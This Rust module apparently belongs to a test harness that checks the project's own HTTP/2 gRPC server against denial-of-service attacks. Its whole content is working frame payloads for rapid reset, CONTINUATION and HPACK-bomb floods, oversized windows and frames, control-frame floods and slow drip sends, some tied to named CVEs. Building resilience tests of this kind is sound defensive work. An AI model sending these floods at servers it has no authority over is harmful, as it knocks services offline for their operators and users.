//! What a client with a certificate can do with HTTP/2 that no library does: each attack is a
//! stream of bytes, made piece by piece.

use crate::frames::{self, field, frame, request};

/// An attack: what is sent first, what is sent again and again, and whether what comes back is
/// read.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) first: Vec<u8>,
    /// The next piece, by its number.
    pub(super) next: fn(u32) -> Vec<u8>,
    /// Milliseconds between pieces.
    pub(super) pause: u64,
    pub(super) reads: bool,
    /// Whether the server has to end the connection.
    pub(super) ends: bool,
}

const CALL: &str = "/rollcall.admin.v1.LicenseService/GetLicense";
const LIST: &str = "/rollcall.admin.v1.UserService/ListUsers";
const END: u8 = frames::END_HEADERS | frames::END_STREAM;

fn settings() -> Vec<u8> {
    [frames::PREFACE, &frame(frames::SETTINGS, 0, 0, &[])].concat()
}

/// Of pieces that each begin a stream: its id.
fn id(number: u32) -> u32 {
    2 * number + 1
}

fn open(stream: u32, path: &str) -> Vec<u8> {
    frame(frames::HEADERS, frames::END_HEADERS, stream, &request(path))
}

fn with_a_stream() -> Vec<u8> {
    [settings(), open(1, CALL)].concat()
}

fn header_without_end() -> Vec<u8> {
    [settings(), frame(frames::HEADERS, 0, 1, &request(CALL))].concat()
}

/// The bytes of a whole call, one at a time.
fn dripped(number: u32) -> Vec<u8> {
    let call = open(1, CALL);
    call.get(number as usize).map(|byte| vec![*byte]).unwrap_or_default()
}

pub(super) fn all() -> Vec<Attack> {
    let flood = |name, first, next, ends| Attack { name, first, next, pause: 0, reads: true, ends };
    vec![
        flood(
            "rapid reset (CVE-2023-44487)",
            settings(),
            |n| [open(id(n), CALL), frame(frames::RST_STREAM, 0, id(n), &[0, 0, 0, 8])].concat(),
            true,
        ),
        flood(
            "resets that the server is made to send (CVE-2025-8671)",
            settings(),
            |n| [open(id(n), CALL), frame(frames::WINDOW_UPDATE, 0, id(n), &[0; 4])].concat(),
            true,
        ),
        flood(
            "the same by a window that overflows",
            settings(),
            |n| {
                [open(id(n), CALL), frame(frames::WINDOW_UPDATE, 0, id(n), &[0x7F, 0xFF, 0xFF, 0xFF])]
                    .concat()
            },
            true,
        ),
        flood(
            "the same by data behind the end",
            settings(),
            |n| {
                [frame(frames::HEADERS, END, id(n), &request(CALL)), frame(frames::DATA, 0, id(n), b"x")]
                    .concat()
            },
            true,
        ),
        flood(
            "CONTINUATION without end (CVE-2024-27316)",
            header_without_end(),
            |_| frame(frames::CONTINUATION, 0, 1, &field("x-flood", &"x".repeat(16_000))),
            true,
        ),
        flood(
            "empty CONTINUATION without end",
            header_without_end(),
            |_| frame(frames::CONTINUATION, 0, 1, &[]).repeat(100),
            true,
        ),
        flood(
            "a header list of 400 KiB",
            settings(),
            |n| {
                let large = field("x-large", &"x".repeat(16_000));
                let first = frame(frames::HEADERS, frames::END_STREAM, id(n), &request(CALL));
                let more = frame(frames::CONTINUATION, 0, id(n), &large).repeat(24);
                [first, more, frame(frames::CONTINUATION, frames::END_HEADERS, id(n), &large)].concat()
            },
            true,
        ),
        flood(
            "an HPACK bomb",
            settings(),
            |n| {
                // A field of 4,000 bytes for the table, and 12,000 references to it.
                let mut entry = field("x-bomb", &"x".repeat(4_000));
                entry[0] = 0x40;
                let block = [request(CALL), entry, vec![0xBE; 12_000]].concat();
                let (one, two) = block.split_at(16_000);
                [
                    frame(frames::HEADERS, frames::END_STREAM, id(n), one),
                    frame(frames::CONTINUATION, frames::END_HEADERS, id(n), two),
                ]
                .concat()
            },
            false,
        ),
        flood(
            "a table of 4 GiB for HPACK",
            settings(),
            |n| {
                frame(
                    frames::HEADERS,
                    END,
                    id(n),
                    &[&[0x3F, 0xE1, 0xFF, 0xFF, 0xFF, 0x0F][..], &request(CALL)].concat(),
                )
            },
            true,
        ),
        flood(
            "SETTINGS",
            settings(),
            |n| {
                frame(frames::SETTINGS, 0, 0, &[&[0, 4][..], &(n % 65_536).to_be_bytes()].concat())
                    .repeat(100)
            },
            false,
        ),
        Attack {
            reads: false,
            ..flood(
                "SETTINGS whose answers are not read",
                settings(),
                |_| frame(frames::SETTINGS, 0, 0, &[]).repeat(1_000),
                false,
            )
        },
        flood("PING", settings(), |_| frame(frames::PING, 0, 0, &[7; 8]).repeat(1_000), false),
        Attack {
            reads: false,
            ..flood(
                "PING whose answers are not read",
                settings(),
                |_| frame(frames::PING, 0, 0, &[7; 8]).repeat(1_000),
                false,
            )
        },
        flood(
            "PRIORITY",
            settings(),
            |n| frame(frames::PRIORITY, 0, id(n), &[0, 0, 0, 0, 1]).repeat(1_000),
            false,
        ),
        flood("frames that do not exist", settings(), |_| frame(0xEE, 0xFF, 0, &[7; 100]).repeat(100), false),
        flood("empty DATA", with_a_stream(), |_| frame(frames::DATA, 0, 1, &[]).repeat(1_000), false),
        flood(
            "DATA that is padding only",
            with_a_stream(),
            |_| frame(frames::DATA, 8, 1, &[&[200][..], &[0; 200]].concat()).repeat(10),
            false,
        ),
        flood(
            "10,000 streams that are never ended",
            settings(),
            |n| {
                if n < 10_000 { open(id(n), CALL) } else { Vec::new() }
            },
            false,
        ),
        flood(
            "answers that nobody takes",
            {
                // No window for any stream.
                [frames::PREFACE, &frame(frames::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])].concat()
            },
            |n| {
                // As many as may be open.
                if n >= 64 {
                    return Vec::new();
                }
                let call = frames::grpc(&[&[10, 12][..], b"tenants/acme", &[16, 100]].concat());
                [open(id(n), LIST), frame(frames::DATA, frames::END_STREAM, id(n), &call)].concat()
            },
            false,
        ),
        flood(
            "a window that overflows",
            settings(),
            |_| frame(frames::WINDOW_UPDATE, 0, 0, &[0x7F, 0xFF, 0xFF, 0xFF]).repeat(2),
            true,
        ),
        flood(
            "a frame of 16 MiB",
            settings(),
            |_| {
                let mut frame = frame(frames::DATA, 0, 1, &[0; 1_000]);
                frame[..3].fill(0xFF);
                frame
            },
            true,
        ),
        flood(
            "a message that is too large",
            with_a_stream(),
            |n| match n {
                0 => frame(frames::DATA, 0, 1, &[0, 0x7F, 0xFF, 0xFF, 0xFF]),
                _ => frame(frames::DATA, 0, 1, &[0; 1_000]),
            },
            false,
        ),
        flood("HTTP/1", b"GET / HTTP/1.1\r\nhost: localhost\r\n\r\n".to_vec(), |_| Vec::new(), true),
        Attack {
            name: "a call in drops",
            first: settings(),
            next: dripped,
            pause: 20,
            reads: true,
            ends: false,
        },
        Attack {
            name: "CONTINUATION in drops",
            first: header_without_end(),
            next: |_| frame(frames::CONTINUATION, 0, 1, &field("x", "y")),
            pause: 50,
            reads: true,
            ends: false,
        },
    ]
}
